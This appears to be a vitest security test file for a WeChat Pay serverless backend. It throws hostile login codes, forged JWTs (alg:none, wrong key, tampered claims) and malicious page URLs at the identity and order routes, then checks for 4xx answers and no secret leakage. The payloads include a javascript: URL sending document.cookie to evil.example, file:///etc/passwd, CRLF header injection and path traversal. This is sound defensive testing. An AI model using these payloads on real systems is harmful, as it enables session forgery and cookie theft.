import { SignJWT, base64url } from 'jose';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';

// Logs on, before any product module is loaded: this file reads what a deployment would log.
vi.hoisted(() => {
  process.env.POWERTOOLS_LOG_LEVEL = 'DEBUG';
  process.env.POWERTOOLS_METRICS_DISABLED = 'false';
});

const { TEST_MERCHANT } = await import('../../dev/emulator/test-merchant');
const { TEST_APP_SECRET, TEST_MINIPROGRAM } = await import('../../dev/emulator/test-apps');
const { LOCAL_SESSION_KEY } = await import('../../dev/local/session-key');
const { identityContext } = await import('../../lib/identity-runtime');
const { putProduct, order, MERCHANT_AUTHORIZATION, TEST_MERCHANT_TOKEN } = await import('../support/api');
const { bearer, jssdkConfigRequest, jssdkQuery, login, sessionToken, simLogin } = await import('../support/identity');
const { startTestStack, TEST_PAGE_ORIGIN } = await import('../support/stack');
const { sleep } = await import('../support/eventually');
const { captureOutput } = await import('../support/lambda');
const { reportFigures } = await import('./support');

/**
 * Hostile logins, session tokens and page URLs against the identity routes and POST /orders, through
 * the real handlers: each is answered 4xx (never 5xx), and nothing secret reaches a log line or an
 * answer: no AppSecret, access_token, jsapi_ticket, session key, session token or login code.
 */

const MINI = TEST_MINIPROGRAM.appId;
const OFFICIAL = TEST_MERCHANT.appId;
const figures: Record<string, unknown> = {};

interface Case {
  name: string;
  run: () => Promise<{ status: number; raw: string }>;
  /** The 4xx expected. */
  status: number;
}

let stack: Awaited<ReturnType<typeof startTestStack>>;
const lines: string[] = [];
const answers: string[] = [];
/** Every secret of the run: none may appear in a log line or an answer. */
const secrets = new Set<string>([TEST_APP_SECRET, TEST_MINIPROGRAM.secret, LOCAL_SESSION_KEY]);
const results: Array<{ name: string; status: number; expected: number }> = [];

/** A session token with the right key but the given header and claims (for forgeries). */
async function forged(header: Record<string, unknown>, claims: Record<string, unknown>, key = LOCAL_SESSION_KEY): Promise<string> {
  const genuine = await sessionToken(MINI, 'oForgedPayer', { key });
  const [, payload] = genuine.split('.');
  const real = JSON.parse(new TextDecoder().decode(base64url.decode(payload as string))) as Record<string, unknown>;
  const { hkdfSync } = await import('node:crypto');
  const signingKey = Buffer.from(
    hkdfSync('sha256', new TextEncoder().encode(key), new Uint8Array(0), 'wechatpay-serverless session signing', 32),
  );
  return new SignJWT({ ...real, ...claims } as never).setProtectedHeader(header as never).sign(signingKey);
}

function unsigned(claims: Record<string, unknown>): string {
  const part = (value: unknown) => base64url.encode(JSON.stringify(value));
  return `${part({ alg: 'none', typ: 'wechat-session+jwt' })}.${part(claims)}.`;
}

beforeAll(async () => {
  stack = await startTestStack();
  captureOutput(lines);

  // A genuine run first, so that the logs hold everything a deployment would log.
  await putProduct('hostile-coffee', { name: 'Coffee', priceFen: 900 });
  const mini = await simLogin(stack.emulator.url, { appId: MINI });
  const official = await simLogin(stack.emulator.url, { appId: OFFICIAL });
  const miniLogin = await login('miniprogram', { code: mini.code });
  const officialLogin = await login('officialaccount', { code: official.code });
  expect([miniLogin.status, officialLogin.status]).toEqual([200, 200]);
  // (Their answers carry their own session tokens, as they must; every other answer is checked.)
  for (const token of [miniLogin.body.token, officialLogin.body.token]) secrets.add(token as string);
  secrets.add(mini.code).add(official.code);
  const created = await order(
    { tradeType: 'JSAPI', items: [{ sku: 'hostile-coffee', quantity: 1 }] },
    { authorization: bearer(miniLogin.body.token as string) },
  );
  expect(created.status).toBe(201);
  answers.push(created.raw);
  await stack.sim.faults({ platformErrors: { getticket: [40001] } });
  const config = await jssdkConfigRequest(jssdkQuery(`${TEST_PAGE_ORIGIN}/pay`));
  expect(config.status).toBe(200);
  answers.push(config.raw);
  const store = (await identityContext().tokens()).store;
  for (const kind of ['access_token', 'jsapi_ticket'] as const) secrets.add((await store.read(kind, OFFICIAL))!.value);

  // Then the hostile requests.
  const expiring = await simLogin(stack.emulator.url, { appId: MINI });
  const expiringOfficial = await simLogin(stack.emulator.url, { appId: OFFICIAL });
  await sleep(350); // past the codes' 5 minutes, scaled
  // Codes used once already (used right away again below, well within their 5 scaled minutes).
  const used = await simLogin(stack.emulator.url, { appId: MINI });
  await login('miniprogram', { code: used.code });
  const usedOfficial = await simLogin(stack.emulator.url, { appId: OFFICIAL });
  await login('officialaccount', { code: usedOfficial.code });
  const ofOfficial = await simLogin(stack.emulator.url, { appId: OFFICIAL });
  const snapshot = await simLogin(stack.emulator.url, { appId: OFFICIAL, snapshotUser: true });
  for (const code of [used.code, usedOfficial.code, expiring.code, expiringOfficial.code, ofOfficial.code, snapshot.code])
    secrets.add(code);

  const otherKey = 'another-deployment-session-key-0123456789';
  const miniToken = await sessionToken(MINI, 'oHostilePayer');
  const [header, payload, signature] = miniToken.split('.') as [string, string, string];
  const claimsOf = JSON.parse(new TextDecoder().decode(base64url.decode(payload))) as Record<string, unknown>;
  const tampered = `${header}.${base64url.encode(JSON.stringify({ ...claimsOf, aud: OFFICIAL }))}.${signature}`;
  secrets.add(miniToken);
  const item = { items: [{ sku: 'hostile-coffee', quantity: 1 }] };
  const withToken = (token: string, body: Record<string, unknown> = {}) =>
    order({ tradeType: 'JSAPI', ...item, ...body }, { authorization: bearer(token) });
  const withHeader = (authorization: string) => order({ tradeType: 'JSAPI', ...item }, { authorization });
  const page = (url: string, appId?: string) => jssdkConfigRequest(jssdkQuery(url, appId));

  const cases: Case[] = [
    // Codes.
    { name: 'a used mini-program code', run: () => login('miniprogram', { code: used.code }), status: 401 },
    { name: 'a used web authorization code', run: () => login('officialaccount', { code: usedOfficial.code }), status: 401 },
    { name: 'an expired mini-program code', run: () => login('miniprogram', { code: expiring.code }), status: 401 },
    { name: 'an expired web authorization code', run: () => login('officialaccount', { code: expiringOfficial.code }), status: 401 },
    { name: 'a code of another app', run: () => login('miniprogram', { code: ofOfficial.code }), status: 401 },
    { name: 'a made-up code', run: () => login('miniprogram', { code: 'A'.repeat(32) }), status: 401 },
    { name: 'a snapshot-page virtual user', run: () => login('officialaccount', { code: snapshot.code }), status: 403 },
    { name: 'a code too long', run: () => login('miniprogram', { code: 'A'.repeat(129) }), status: 400 },
    { name: 'a code with a query in it', run: () => login('miniprogram', { code: 'abc&secret=x' }), status: 400 },
    { name: 'a code that is a number', run: () => login('miniprogram', { code: 12345 }), status: 400 },
    { name: 'a body that is a list', run: () => login('miniprogram', '[{"code":"abc"}]'), status: 400 },
    { name: 'a body that is not JSON', run: () => login('officialaccount', '{code:'), status: 400 },
    { name: 'a __proto__ key', run: () => login('miniprogram', '{"code":"abc","__proto__":{"admin":true}}'), status: 400 },
    { name: 'a body over 16 KiB', run: () => login('miniprogram', JSON.stringify({ code: 'abc', pad: 'x'.repeat(17_000) })), status: 413 },
    { name: 'an app id of another kind', run: () => login('miniprogram', { code: 'abc', appId: OFFICIAL }), status: 400 },
    // Session tokens.
    {
      name: 'a token signed with another key',
      run: async () => withToken(await sessionToken(MINI, 'oHostilePayer', { key: otherKey })),
      status: 401,
    },
    { name: 'a token of app A used for app B', run: () => withToken(miniToken, { appId: OFFICIAL }), status: 401 },
    { name: 'a token with its app changed', run: () => withToken(tampered), status: 401 },
    { name: 'alg: none', run: () => withToken(unsigned({ ...claimsOf })), status: 401 },
    { name: 'alg: HS512', run: async () => withToken(await forged({ alg: 'HS512', typ: 'wechat-session+jwt' }, {})), status: 401 },
    { name: 'a truncated token', run: () => withToken(miniToken.slice(0, -10)), status: 401 },
    { name: 'a token without its signature', run: () => withToken(`${header}.${payload}`), status: 401 },
    {
      name: 'an expired token',
      run: async () => withToken(await sessionToken(MINI, 'oHostilePayer', { now: () => Date.now() - 3 * 3600_000 })),
      status: 401,
    },
    {
      name: 'a token living 30 days',
      run: async () =>
        withToken(await forged({ alg: 'HS256', typ: 'wechat-session+jwt' }, { exp: Math.floor(Date.now() / 1000) + 30 * 86_400 })),
      status: 401,
    },
    {
      name: "a token of an app not the merchant's",
      run: async () => withToken(await sessionToken('wx0000000000000bad', 'oHostilePayer')),
      status: 401,
    },
    {
      name: 'a token with a plain openid',
      run: async () => withToken(await forged({ alg: 'HS256', typ: 'wechat-session+jwt' }, { sub: 'oSomeoneElse' })),
      status: 401,
    },
    { name: 'the merchant API token as a session token', run: () => withToken(TEST_MERCHANT_TOKEN), status: 401 },
    { name: 'Basic credentials', run: () => withHeader(`Basic ${Buffer.from(`user:${miniToken}`).toString('base64')}`), status: 401 },
    { name: 'a 5,000-character bearer', run: () => withHeader(`Bearer ${'a'.repeat(5000)}`), status: 401 },
    { name: 'the merchant Authorization on POST /orders', run: () => withHeader(MERCHANT_AUTHORIZATION), status: 401 },
    // Page URLs.
    {
      name: 'a javascript: URL',
      run: () => page(`javascript:fetch('https://evil.example/'+document.cookie)//${TEST_PAGE_ORIGIN}/`),
      status: 400,
    },
    { name: 'a data: URL', run: () => page('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='), status: 400 },
    { name: 'a file: URL', run: () => page('file:///etc/passwd'), status: 400 },
    { name: 'a foreign origin', run: () => page('https://evil.example/pay'), status: 403 },
    { name: 'a look-alike origin', run: () => page(`${TEST_PAGE_ORIGIN}.evil.example/pay`), status: 403 },
    { name: 'the allowed host over http', run: () => page(`http://${new URL(TEST_PAGE_ORIGIN).host}/pay`), status: 403 },
    { name: 'credentials hiding the host', run: () => page(`https://${new URL(TEST_PAGE_ORIGIN).host}@evil.example/pay`), status: 400 },
    { name: 'a URL of 5,000 characters', run: () => page(`${TEST_PAGE_ORIGIN}/${'a'.repeat(5000)}`), status: 400 },
    { name: 'a URL with a newline', run: () => page(`${TEST_PAGE_ORIGIN}/pay\nSet-Cookie: x=1`), status: 400 },
    { name: 'an unencoded URL', run: () => jssdkConfigRequest(`url=${TEST_PAGE_ORIGIN}/pay?a=1&b=2`), status: 400 },
    { name: "a mini-program's app id", run: () => page(`${TEST_PAGE_ORIGIN}/pay`, MINI), status: 400 },
    { name: 'an app id with a path in it', run: () => page(`${TEST_PAGE_ORIGIN}/pay`, '../../admin'), status: 400 },
  ];
  for (const hostile of cases) {
    const answer = await hostile.run();
    results.push({ name: hostile.name, status: answer.status, expected: hostile.status });
    answers.push(answer.raw);
  }
  vi.restoreAllMocks();
  figures.hostileRequests = cases.length;
  figures.logLinesCaptured = lines.length;
}, 60_000);

afterAll(async () => {
  vi.restoreAllMocks();
  reportFigures('hostile identity requests', figures);
  await stack?.close();
});

describe('hostile codes, session tokens and page URLs', () => {
  it('at least 20, each refused with its 4xx, never a 5xx', () => {
    expect(results.length).toBeGreaterThanOrEqual(20);
    expect(results.filter((result) => result.status >= 500)).toEqual([]);
    expect(results.filter((result) => result.status !== result.expected)).toEqual([]);
  });

  it('no log line and no answer holds an AppSecret, access_token, jsapi_ticket, session key, session token or login code', () => {
    expect(lines.length).toBeGreaterThan(10);
    expect(secrets.size).toBeGreaterThanOrEqual(15);
    for (const secret of secrets) {
      expect(
        lines.filter((line) => line.includes(secret)),
        'a log line',
      ).toEqual([]);
      expect(
        answers.filter((answer) => answer.includes(secret)),
        'an answer',
      ).toEqual([]);
    }
    // Nor anything named like one: the mini-program's session_key is never even seen.
    expect(lines.filter((line) => /session_key|"secret"|access_token=|"ticket"/i.test(line))).toEqual([]);
  });

  it('logs the logins and the token refresh as structured lines, without the payer', () => {
    const entries = lines.filter((line) => line.startsWith('{')).map((line) => JSON.parse(line) as Record<string, unknown>);
    const logins = entries.filter((entry) => entry.message === 'payer logged in');
    expect(logins.map((entry) => [entry.appId, entry.kind]).sort()).toEqual(
      [
        [MINI, 'miniprogram'],
        [MINI, 'miniprogram'],
        [OFFICIAL, 'officialaccount'],
        [OFFICIAL, 'officialaccount'],
      ].sort(),
    );
    for (const entry of logins) expect(Object.keys(entry)).not.toContain('openid');
    // Refusals are logged with their reason, for the merchant's monitoring.
    const refusedSessions = entries.filter((entry) => entry.message === 'payer session refused').map((entry) => entry.reason);
    expect(new Set(refusedSessions)).toEqual(
      new Set(['BAD_SIGNATURE', 'WRONG_APP', 'ALG_NOT_ALLOWED', 'MALFORMED', 'EXPIRED', 'INVALID_CLAIMS', 'NOT_BEARER']),
    );
    const refusedLogins = entries.filter((entry) => entry.message === 'payer login refused').map((entry) => entry.errcode);
    expect(new Set(refusedLogins)).toEqual(new Set([40163, 40029, 42003]));
    expect(entries.some((entry) => entry.message === 'wechat_token_refreshed' && entry.kind === 'jsapi_ticket')).toBe(true);
    expect(entries.some((entry) => entry.message === 'wechat_token_refused' && entry.errcode === 40001)).toBe(true);
  });
});
